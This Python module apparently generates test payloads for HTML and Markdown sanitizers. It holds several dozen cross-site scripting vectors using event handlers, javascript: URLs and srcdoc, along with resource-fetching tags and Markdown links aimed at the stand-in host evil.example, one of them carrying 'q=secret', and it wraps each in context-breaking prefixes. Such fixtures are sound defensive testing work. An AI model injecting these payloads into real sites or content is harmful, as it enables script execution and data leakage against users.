"""Texts made to become more than text where a page is careless: markup that runs or fetches, Markdown that does."""

from __future__ import annotations

from itertools import product

RUNS = "window.owned=(window.owned||0)+1"
AWAY = "//evil.example"
_CALL = f'"{RUNS}"'

_RUNNING = (
    "<img src=x onerror={call}>", "<svg onload={call}>", "<svg><script>{js}</script></svg>", "<script>{js}</script>",
    "<body onload={call}>", "<details open ontoggle={call}>x</details>", "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>", "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=\"javascript:parent.{js}\"></iframe>", "<object data=\"javascript:{js}\"></object>",
    "<embed src=\"javascript:{js}\">", "<input autofocus onfocus={call}>", "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>", "<marquee onstart={call}>x</marquee>",
    "<math><mtext><img src=x onerror={call}></mtext></math>", "<template><img src=x onerror={call}></template>",
    "<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart={call}>x</p>",
    "<a href=\"javascript:{js}\" id=go>x</a>", "<form><button formaction=\"javascript:{js}\">x</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\"></noscript>", "<img src=x:x onerror={call}//",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>", "<xss onpointerrawupdate={call}>x</xss>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={call}/>#x\"/></svg>",
)  # fmt: skip
_FETCHING = (
    "<img src={away}/i.png>", "<link rel=stylesheet href={away}/s.css>", "<script src={away}/s.js></script>",
    "<iframe src={away}/></iframe>", "<meta http-equiv=refresh content='0;url=http:{away}/'>", "<base href={away}/>",
    "<video src={away}/v poster={away}/p></video>", "<style>@import '{away}/s.css';</style>",
    "<p style=\"background:url({away}/b)\">x</p>", "<object data={away}/o></object>", "<embed src={away}/e>",
    "<link rel=prefetch href={away}/p>", "<link rel=dns-prefetch href={away}>", "<audio src={away}/a></audio>",
    "<svg><image href={away}/x.png></svg>", "<form action={away}/f><input type=image src={away}/i></form>",
    "<portal src={away}/></portal>", "<a ping={away}/p href={away}/>x</a>", "<img srcset='{away}/1 1x'>",
    "<img src=`{away}/q`>",
)  # fmt: skip
_MARKDOWN = (
    "![x](http:{away}/m.png?q=secret)", "![x][r]\n\n[r]: http:{away}/r.png", "[x](javascript:{js})",
    "[x](data:text/html,<script>{js}</script>)", "<javascript:{js}>", "[x](vbscript:x)", "<http:{away}/auto>",
    "[![x](http:{away}/n.png)](http:{away}/)", "```html\n<img src=x onerror={call}>\n```", "http:{away}/bare",
    "[x](java\nscript:{js})", "![x](data:image/svg+xml,<svg onload={call}>)", "<!-- --><img src=x onerror={call}>",
    "$$\\href{{javascript:{js}}}{{x}}$$",
)  # fmt: skip
_AROUND = ("{}", "\">{}", "'>{}", "</p></div></script></style></textarea></title>{}", "--><!--{}", "\u202e{}",
           "&lt;{}&gt;", "{}\0")  # fmt: skip


def payloads() -> list[str]:
    """Two hundred, each another, every kind first by itself and then within what would close what it stands in."""
    kinds = [text.format(call=_CALL, js=RUNS, away=AWAY) for text in (*_RUNNING, *_FETCHING, *_MARKDOWN)]
    made = [around.format(kind) for around, kind in product(_AROUND, kinds)]
    return list(dict.fromkeys(made))[:200]
